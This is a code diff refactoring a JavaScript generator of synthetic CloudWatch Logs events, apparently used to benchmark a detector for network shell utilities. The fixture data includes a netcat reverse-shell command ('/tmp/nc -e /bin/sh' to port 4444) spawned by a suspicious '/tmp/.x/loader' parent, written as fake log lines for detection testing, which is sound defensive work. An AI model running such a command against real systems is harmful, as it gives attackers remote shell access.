@@ -61,6 +61,23 @@ function line(i, binary, args, parent) {
   });
 }
 
+/** Writes one Lambda event as CloudWatch Logs delivers it; returns its path. */
+function writeEvent(file, logStream, logEvents) {
+  const payload = {
+    messageType: "DATA_MESSAGE",
+    owner: "123456789012",
+    logGroup: "/aws/containerinsights/prod-eks/application",
+    logStream,
+    subscriptionFilters: ["netutil-detector"],
+    logEvents,
+  };
+  writeFileSync(
+    file,
+    JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
+  );
+  return file;
+}
+
 /** Writes the files and returns their paths. */
 export function generate(dir, batches = 10, events = 5000) {
   mkdirSync(dir, { recursive: true });
@@ -79,20 +96,7 @@ export function generate(dir, batches = 10, events = 5000) {
         message: line(i, binary, args, isUtility ? "/tmp/.x/loader" : "/usr/bin/tini"),
       });
     }
-    const payload = {
-      messageType: "DATA_MESSAGE",
-      owner: "123456789012",
-      logGroup: "/aws/containerinsights/prod-eks/application",
-      logStream: `tetragon-bench-${b}`,
-      subscriptionFilters: ["netutil-detector"],
-      logEvents,
-    };
-    const file = join(dir, `batch-${b}.json`);
-    writeFileSync(
-      file,
-      JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
-    );
-    files.push(file);
+    files.push(writeEvent(join(dir, `batch-${b}.json`), `tetragon-bench-${b}`, logEvents));
   }
   return { files, utilities };
 }
@@ -108,18 +112,5 @@ export function generateBusy(dir, signals = 250) {
       message: line(i, "/tmp/nc", `-e /bin/sh 198.51.${100 + (i >> 8)}.${i & 255} 4444`, "/tmp/.x/loader"),
     });
   }
-  const payload = {
-    messageType: "DATA_MESSAGE",
-    owner: "123456789012",
-    logGroup: "/aws/containerinsights/prod-eks/application",
-    logStream: "tetragon-bench-busy",
-    subscriptionFilters: ["netutil-detector"],
-    logEvents,
-  };
-  const file = join(dir, "busy.json");
-  writeFileSync(
-    file,
-    JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
-  );
-  return file;
+  return writeEvent(join(dir, "busy.json"), "tetragon-bench-busy", logEvents);
 }
